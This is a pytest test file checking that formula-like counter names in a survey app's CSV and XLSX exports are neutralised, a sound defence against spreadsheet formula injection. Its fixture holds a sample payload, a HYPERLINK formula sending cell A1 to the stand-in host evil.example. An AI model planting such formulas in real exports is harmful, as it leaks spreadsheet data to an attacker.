"""Names typed by managers cannot become formulas in the CSV and XLSX exports (docs/security.md)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from survey.core.cells import inert
from tests.helpers import D1, aged_ticket, answers, sign_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+84 90", "'+84 90"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Quầy 1", "Quầy 1"), (-0.5, -0.5), (None, None),
])
def test_a_text_that_starts_a_formula_is_made_inert(value, expected):
    assert inert(value) == expected


@pytest.fixture
def poisoned(app, client, session, province):
    """A counter named like a formula, with one response so that it appears in the exports."""
    assert client.post(D1, data=answers() | {"ticket": aged_ticket(app)}).status_code == 303
    counter = province.counters["D1"]
    counter.name = FORMULA
    session.add(counter)
    session.commit()
    sign_in(client, "admin")
    return client


@pytest.mark.parametrize(("language", "delimiter"), [("vi", ";"), ("en", ",")])
def test_csv_export_holds_no_formula_cell(poisoned, language, delimiter):
    body = poisoned.get(f"/manage/unit/D1/export.csv?lang={language}").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=delimiter) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_xlsx_export_stores_names_as_text_not_formulas(poisoned):
    book = load_workbook(io.BytesIO(poisoned.get("/manage/unit/D1/export.xlsx").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    named = [cell for cell in cells if cell.value == FORMULA]
    assert named and all(cell.data_type == "s" for cell in named)
    assert not any(cell.data_type == "f" for cell in cells)
